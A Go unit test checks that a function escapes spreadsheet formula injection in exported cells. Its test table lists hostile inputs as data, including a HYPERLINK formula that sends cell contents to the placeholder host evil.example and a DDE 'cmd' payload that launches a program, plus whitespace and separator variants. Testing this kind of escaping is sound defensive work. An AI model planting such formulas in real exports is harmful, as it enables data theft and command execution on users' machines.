package handlers

import "testing"

func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"Look")`: `'=HYPERLINK("https://evil.example/?"&A1,"Look")`,
		"+1":                         "'+1",
		"-2+3+cmd|' /C calc'!A0":     "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)":                  "'@SUM(1+1)",
		"\t=1":                       "'\t'=1",
		"\r=1":                       "'\r'=1",
		"\ttext":                     "'\ttext",
		"\ntext":                     "'\ntext",
		"  =1":                       "  '=1",
		"＝1":                         "'＝1",
		"a;=1":                       "a;'=1",
		"a; @SUM(1)":                 "a; '@SUM(1)",
		"a\r\n=1":                    "a\r\n'=1",
		"":                           "",
		"Alps - the best of = 2":     "Alps - the best of = 2",
		"https://a.example/?a=-1&b+": "https://a.example/?a=-1&b+",
		"2026-11-28T11:24:15Z":       "2026-11-28T11:24:15Z",
		"Übersicht ☀.png":            "Übersicht ☀.png",
		"half a letter \xc3":         "half a letter \ufffd",
	} {
		if got := harmless(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}
